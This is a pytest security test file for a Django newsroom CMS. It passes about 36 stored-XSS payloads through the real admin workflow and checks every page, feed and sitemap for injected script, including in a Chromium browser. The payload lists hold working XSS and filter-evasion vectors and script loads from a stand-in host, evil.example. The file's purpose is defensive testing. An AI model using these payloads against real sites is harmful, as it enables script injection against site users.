"""Stored XSS, black-box: payloads typed by journalists into every text field they control,
through the real admin forms, checked on every page that shows them.

Each payload goes through the whole life of an article (`newsroom_flow`): an editor makes
the pen name and the event thread, a reporter uploads the photo (caption, credit, alt) and
writes the article (title, sapo, body, source, tags), edits it, makes a share link and
submits it; the editor returns it with a reason (and puts it in the thread); the reporter
resubmits; the managing editor publishes it and adds a correction. Every page on the way
(message pages after each POST included) and every public page, feed and sitemap after
publication is kept and judged on its parsed DOM (tests/security/html_safety.py): no event
handler, no script URL, no CSS that runs code, no element outside the sanitiser's
allowlist beyond what the same page has without payloads (the clean run of the same
flow), no injected script; and the title, OpenGraph/Twitter values, JSON-LD values, feed
and sitemap titles read back exactly the text that was stored.
"""

import json
import re
import xml.etree.ElementTree as ET
from html import escape

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse

from articles.models import Article, Author, EventThread, Photo, PreviewLink
from articles.richtext import ALLOWED_TAGS
from tests.browser import log_in
from tests.factories import (
    EDITOR,
    MANAGING_EDITOR,
    REPORTER,
    article_form_data,
    image_upload,
    make_category,
    make_user,
)
from tests.security.html_safety import parse, problems

# Every payload sets window.__xss if it ever runs (the browser test checks that).
PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__xss=1">',
    "<img src=x oNeRrOr=window.__xss=1//",
    '<a href="java\tscript:window.__xss=1">a</a>',
    '<a href="java\nscript:window.__xss=1">b</a>',
    '<a href="jav&#x09;ascript:window.__xss=1">c</a>',
    '<a href="&#106;&#97;vascript:window.__xss=1">d</a>',
    '<a href=" &#14; javascript:window.__xss=1">e</a>',
    '<svg onload="window.__xss=1"><circle r=1 /></svg>',
    "<svg><script>window.__xss=1</script></svg>",
    '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="javascript:window.__xss=1">',
    '<base href="javascript:window.__xss=1//">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<p style="background:url(javascript:window.__xss=1)">f</p>',
    "<div style=\"background-image:url('javascript:window.__xss=1')\">g</div>",
    '<p style="width:expression(window.__xss=1)">h</p>',
    "<![CDATA[><script>window.__xss=1</script>]]>",
    "<!--><script>window.__xss=1</script>-->",
    "<!-- --!><script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    '" onmouseover="window.__xss=1" x="',
    "</script><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<details open ontoggle="window.__xss=1">i</details>',
    '<form action="javascript:window.__xss=1"><button>j</button></form>',
    '<a href="data:text/html,&lt;script&gt;window.__xss=1&lt;/script&gt;">k</a>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<style>@import 'javascript:window.__xss=1';</style>",
    "\u2028\u2029</script><!--<script>window.__xss=1</script>",
    "{{ request.user.password }}{% debug %}<template><script>window.__xss=1</script>",
]

# The body's allowlist; search's highlighting of the words found (as many as match); one
# <meta property="article:tag"> per tag (a payload with commas makes several; http-equiv
# is judged on every <meta>).
SAFE_TAGS = frozenset(ALLOWED_TAGS | {"mark", "meta"})
# The version diff marks what changed: as many of these as the payload has changes.
DIFF_TAGS = frozenset({"ins", "del", "details", "summary"})

# The same flow's clean run, once per test session: {surface: parsed page}.
_BASELINE = {}
CLEAN = "chữ thường"

# RSS ×2, the sitemap index, the news sitemap and five section sitemaps.
XML_SURFACES = 9


def _client(user):
    client = Client()
    client.force_login(user)
    return client


def _page(client, url, **params):
    """GET `url`, which must answer 200; its text."""
    response = client.get(url, params)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def _post(client, url, data, **extra):
    """POST like the admin's form; the page the redirect leads to (with its messages)."""
    response = client.post(url, data, follow=True, **extra)
    assert response.status_code == 200, (url, response.status_code)
    assert response.redirect_chain, (url, _errors(response.content.decode()))
    return response.content.decode()


def _errors(html):
    return re.findall(r'class="errorlist[^"]*"[^>]*>(.*?)</ul>', html, re.S)[:5] or html[:800]


def newsroom_flow(text, number):
    """Run the article's life with `text` in every journalist's field; returns
    (pages {surface: html}, xml {surface: text}, article)."""
    word = f"Kiemtra{number}"
    value = f"{word} {text}"
    category = make_category(name=f"Chuyên mục {number}", slug=f"chuyen-muc-{number}")
    reporter = make_user(f"phongvien{number}", REPORTER)
    editor = make_user(f"bientap{number}", EDITOR)
    managing = make_user(f"thuky{number}", MANAGING_EDITOR)
    as_reporter, as_editor, as_managing = map(_client, (reporter, editor, managing))
    pages = {}

    # The editor: the pen name and the event thread.
    pages["message_author_add"] = _post(
        as_editor,
        reverse("admin:articles_author_add"),
        {"display_name": value, "slug": "", "user": "", "bio": value, "photo": ""},
    )
    author = Author.objects.latest("pk")
    pages["message_thread_add"] = _post(
        as_editor,
        reverse("admin:articles_eventthread_add"),
        {"title": value, "slug": "", "description": value},
    )
    thread = EventThread.objects.latest("pk")

    # The reporter: the photo, then the article with it.
    pages["message_photo_add"] = _post(
        as_reporter,
        reverse("admin:articles_photo_add"),
        {
            "image": image_upload(),
            "caption": value,
            "credit": value,
            "alt_text": value,
            "taken_at": "",
            "focal_x": "0.5",
            "focal_y": "0.5",
        },  # fmt: skip
    )
    photo = Photo.objects.latest("pk")
    # The payload raw in the body (twice: alone and in a caption) and as an image's alt.
    body = (
        f"<p>{word}</p>{text}"
        f'<figure class="image"><img src="{photo.image.url}" alt="{escape(text)}">'
        f"<figcaption>{value}</figcaption></figure>"
    )
    form = article_form_data(
        category=category,
        bylines=[author],
        photos=[],
        title=value,
        sapo=value,
        body=body,
        source=value,
        lead_photo=photo.pk,
        tag_names=f"{word}, {text}",
    )
    pages["message_article_add"] = _post(as_reporter, reverse("admin:articles_article_add"), form)
    article = Article.objects.latest("pk")
    change = reverse("admin:articles_article_change", args=[article.pk])
    # A second version, so history has something to compare.
    tags = f"{word}, {text}"

    def form_for(article, **fields):
        return article_form_data(article, tag_names=tags, **fields)

    form = form_for(article, sapo=f"{value} (sửa)")
    pages["message_article_change"] = _post(as_reporter, change, form)
    pages["change_form_reporter"] = _page(as_reporter, change)
    pages["changelist_reporter"] = _page(as_reporter, reverse("admin:articles_article_changelist"))
    history = reverse("admin:articles_article_history", args=[article.pk])
    pages["history"] = _page(as_reporter, history)
    pages["compare"] = _page(
        as_reporter, reverse("admin:articles_article_compare", args=[article.pk]), a=1, b=2
    )
    preview = reverse("admin:articles_article_preview", args=[article.pk])
    pages["preview"] = _page(as_reporter, preview)
    pages["preview_revision"] = _page(as_reporter, preview, revision=1)
    pages["message_share_link"] = _post(
        as_reporter, reverse("admin:articles_article_preview_link", args=[article.pk]), {}
    )
    link = PreviewLink.objects.get(article=article)
    pages["share_link"] = _page(Client(), link.get_absolute_url())

    # Submitted, returned with a reason (and put in the thread), resubmitted, published.
    article.refresh_from_db()
    pages["message_submit"] = _post(as_reporter, change, form_for(article, _transition="submit"))
    article.refresh_from_db()
    form = form_for(article, thread=thread.pk, _transition="return", workflow_reason=value)
    pages["message_return"] = _post(as_editor, change, form)
    pages["change_form_returned"] = _page(as_reporter, change)
    article.refresh_from_db()
    _post(as_reporter, change, form_for(article, _transition="submit"))
    article.refresh_from_db()
    pages["change_form_editor"] = _page(as_editor, change)
    form = form_for(article, thread=thread.pk, _transition="publish")
    pages["message_publish"] = _post(as_managing, change, form)
    article.refresh_from_db()
    assert article.is_published, article.status
    form = form_for(article, thread=thread.pk, corrections=[value])
    pages["message_correction"] = _post(as_managing, change, form)
    article.refresh_from_db()

    # Everything readers see.
    anonymous = Client()
    tags = list(article.tags.all())
    assert tags, "the tags were not saved"
    public = {
        "article": article.get_absolute_url(),
        "home": "/",
        "category": category.get_absolute_url(),
        "author": author.get_absolute_url(),
        "thread": thread.get_absolute_url(),
        "corrections": reverse("articles:corrections"),
    }
    for index, tag in enumerate(tags):
        public[f"tag_{index}"] = tag.get_absolute_url()
    for name, url in public.items():
        pages[name] = _page(anonymous, url)
    pages["search_word"] = _page(anonymous, reverse("articles:search"), q=word)
    pages["search_payload"] = _page(anonymous, reverse("articles:search"), q=value)
    pages["share_link_after"] = anonymous.get(link.get_absolute_url(), follow=True).content.decode()

    # And the newsroom's own lists and pages.
    admin_pages = {
        "changelist_editor": (reverse("admin:articles_article_changelist"), {}),
        "changelist_search": (reverse("admin:articles_article_changelist"), {"q": value}),
        "change_form_published": (change, {}),
        "history_editor": (history, {}),
        "photo_changelist": (reverse("admin:articles_photo_changelist"), {}),
        "photo_change": (reverse("admin:articles_photo_change", args=[photo.pk]), {}),
        "author_changelist": (reverse("admin:articles_author_changelist"), {}),
        "author_change": (reverse("admin:articles_author_change", args=[author.pk]), {}),
        "tag_changelist": (reverse("admin:articles_tag_changelist"), {}),
        "thread_changelist": (reverse("admin:articles_eventthread_changelist"), {}),
        "thread_change": (reverse("admin:articles_eventthread_change", args=[thread.pk]), {}),
        "editor_browse": (reverse("articles:editor_browse"), {"CKEditorFuncNum": "1"}),
        "admin_home": (reverse("admin:index"), {}),
    }
    for name, (url, params) in admin_pages.items():
        pages[name] = _page(as_managing, url, **params)

    xml = {
        "rss_latest": _page(anonymous, reverse("articles:rss_latest")),
        "rss_category": _page(anonymous, reverse("articles:rss_category", args=[category.slug])),
        "sitemap_index": _page(anonymous, "/sitemap.xml"),
        "sitemap_news": _page(anonymous, "/sitemap-news.xml"),
        **{
            f"sitemap_{name}": _page(anonymous, f"/sitemap-{name}.xml")
            for name in ("chuyen-muc", "tac-gia", "tu-khoa", "dong-su-kien", "bai-viet")
        },
    }
    return pages, xml, article


@pytest.fixture
def baseline(db):
    """The clean run's pages, parsed (computed once, rolled back so it leaves nothing)."""
    if not _BASELINE:
        with transaction.atomic():
            pages, _xml, _article = newsroom_flow(CLEAN, 0)
            _BASELINE.update({name: parse(html) for name, html in pages.items()})
            transaction.set_rollback(True)
    return _BASELINE


# Counts for the closing report: payloads × fields × surfaces.
FIELDS = ["title", "sapo", "body", "source", "photo caption", "photo credit", "photo alt",
          "pen name", "pen-name bio", "tag names", "thread title", "thread description",
          "correction", "return reason", "search query"]  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("number", range(1, len(PAYLOADS) + 1))
def test_payload_runs_nowhere(baseline, number):
    text = PAYLOADS[number - 1]
    pages, xml, article = newsroom_flow(text, number)
    found = {}
    for name, html in pages.items():
        page = parse(html)
        reference = baseline.get(name) or baseline[re.sub(r"_\d+$", "_0", name)]
        allowed = SAFE_TAGS | DIFF_TAGS if name == "compare" else SAFE_TAGS
        trouble = problems(page, reference, allowed_tags=allowed)
        if trouble:
            found[name] = trouble
    for name, text_xml in xml.items():
        trouble = _xml_problems(text_xml, article)
        if trouble:
            found[name] = trouble
    assert not found, json.dumps(found, ensure_ascii=False, indent=1)
    _values_round_trip(pages, xml, article)
    # Surfaces judged for this payload (pages and feeds), for the summary.
    assert len(pages) + len(xml) >= 45


def _values_round_trip(pages, xml, article):
    """Where the title is plain text (the <title>, meta values, JSON-LD, feeds), it reads
    back exactly as stored: nothing closed the element early, nothing was lost."""
    title = article.title
    page = parse(pages["article"])
    assert title in page.title()
    assert page.meta("og:title") == title
    assert page.meta("twitter:title") == title
    # Descriptions are the sapo on one line (tabs and line breaks read as spaces).
    sapo = " ".join(article.sapo.split())
    for key in ("og:description", "twitter:description", "description"):
        assert " ".join(page.meta(key).split()) == sapo, key
    headlines = [data.get("headline") for data in page.json_ld() if isinstance(data, dict)]
    flattened = [
        item.get("headline")
        for data in page.json_ld()
        for item in (data.get("@graph", []) if isinstance(data, dict) else data)
    ]
    assert title in headlines + flattened, page.json_ld()
    # The ld+json element holds the whole JSON (no "</script>" closed it early).
    raw = re.findall(r'<script type="application/ld\+json">(.*?)</script>', pages["article"], re.S)
    assert [json.loads(chunk) for chunk in raw] == page.json_ld()
    for name in ("preview", "share_link", "change_form_editor"):
        assert title in parse(pages[name]).title(), name
    rss = ET.fromstring(xml["rss_latest"])
    assert title in [item.findtext("title") for item in rss.iter("item")]
    news = ET.fromstring(xml["sitemap_news"])
    titles = [
        node.text for node in news.iter("{http://www.google.com/schemas/sitemap-news/0.9}title")
    ]
    assert title in titles


def _xml_problems(text, article):
    """Feeds and sitemaps parse as XML; HTML inside them (RSS descriptions) is judged
    like a page."""
    try:
        root = ET.fromstring(text)
    except ET.ParseError as error:
        return [f"not well-formed XML: {error}"]
    found = []
    empty = parse("")
    for node in root.iter():
        if node.tag in {"description", "{http://purl.org/rss/1.0/modules/content/}encoded"}:
            found += problems(parse(node.text or ""), empty, allowed_tags=ALLOWED_TAGS)
    if "<script" in text.lower() and "&lt;script" not in text.lower():
        found.append("a raw <script> in XML")
    return found


@pytest.mark.django_db
def test_counts_for_the_report(baseline):
    """payloads × fields × surfaces, printed with -s (and kept honest here)."""
    surfaces = len(baseline) + XML_SURFACES
    print(
        f"\nstored XSS: {len(PAYLOADS)} payloads × {len(FIELDS)} fields × {surfaces} surfaces"
        f" = {len(PAYLOADS) * len(FIELDS) * surfaces} checks"
    )
    assert len(PAYLOADS) >= 30 and surfaces >= 45


@pytest.mark.parametrize(
    "bad",
    [
        '<img src="x" onerror="run()">',
        '<a href="java\tscript:run()">x</a>',
        '<a href="&#106;avascript:run()">x</a>',
        '<p style="background:url( javascript:run())">x</p>',
        '<meta http-equiv="refresh" content="0;url=/">',
        "<script>window.__xss=1</script>",
        '<script src="//evil.example/x.js"></script>',
        '<script type="application/ld+json">{"a":"</script><script>x</script>',
        "<iframe></iframe>",
        "<svg></svg>",
    ],
)
def test_the_checker_sees_what_would_run(bad):
    """The judge itself: each of these is reported on an otherwise empty page."""
    assert problems(parse(f"<p>{bad}</p>"), parse("<p></p>"), allowed_tags=SAFE_TAGS)


# -- in a real browser: nothing opens a dialog, nothing sets the payloads' flag --

# Short enough for every field (pen names: 100 characters), each a different way out.
BROWSER_PAYLOADS = [1, 3, 10, 23, 25, 26, 27]


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.usefixtures("_allow_orm_next_to_playwright", "_database_as_migrated")
def test_no_payload_runs_in_chromium(page, live_server):
    """The article page, the admin's writing screen and the preview, in Chromium, for
    articles written with payloads (one each, in every field) and one whose body holds
    every payload: no dialog opens and no injected code sets `window.__xss`."""
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    articles = [newsroom_flow(PAYLOADS[n - 1], n)[2] for n in BROWSER_PAYLOADS]
    # Every payload at once, in the body (no length limit), through the admin's form.
    last = articles[-1]
    editor = make_user("tongbientap-xss", "Tổng biên tập / Phó tổng biên tập")
    everything = "".join(f"<p>{n}</p>{payload}" for n, payload in enumerate(PAYLOADS))
    client = _client(editor)
    change = reverse("admin:articles_article_change", args=[last.pk])
    tags = ", ".join(tag.name for tag in last.tags.all())
    _post(client, change, article_form_data(last, body=everything, tag_names=tags))
    last.refresh_from_db()
    assert last.body.startswith("<p>0</p><p>1</p>")  # saved (the sanitised form)
    log_in(page, live_server, editor.username)
    for article in articles:
        for url in (
            article.get_absolute_url(),
            reverse("admin:articles_article_change", args=[article.pk]),
            reverse("admin:articles_article_preview", args=[article.pk]),
        ):
            page.goto(live_server.url + url)
            page.wait_for_load_state("load")
            page.mouse.move(200, 300)  # hover handlers, had any survived
            page.wait_for_timeout(150)
            ran = page.evaluate("[typeof window.__xss, typeof window.top.__xss]")
            assert ran == ["undefined", "undefined"], url
            assert page.url.startswith(live_server.url), (url, page.url)  # no redirect away
    assert dialogs == []
